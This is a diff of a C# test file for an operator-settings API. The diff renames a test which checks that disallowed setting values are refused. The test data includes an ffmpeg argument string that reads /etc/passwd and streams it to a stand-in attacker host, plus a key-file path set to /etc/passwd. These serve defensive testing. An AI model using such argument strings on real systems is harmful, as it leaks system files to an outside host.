@@ -16,7 +16,7 @@ public sealed class OperatorRuleApiTests(AzuriteServer azurite)
     [InlineData("thumb_ffmpeg_extra_args", "-i /etc/passwd -f mpegts http://attacker.example/")]
     [InlineData("encrypt_master_key_file", "/etc/passwd")]
     [InlineData("thumb_vips_enabled", "1")]
-    public async Task Given_a_value_that_the_operator_does_not_allow_when_it_is_set_then_it_is_refused_by_its_name(string key, string value)
+    public async Task Given_a_value_that_the_operator_does_not_allow_when_set_then_it_is_refused_by_name(string key, string value)
     {
         await using var app = await AppFixture.StartAsync(azurite, settings: new Dictionary<string, string?> { ["CLOUDREVE_PROGRAMS"] = "ffmpeg" });
         var (setting, other) = (SettingChange.Find(key)!, SettingChange.Find("siteDes")!);
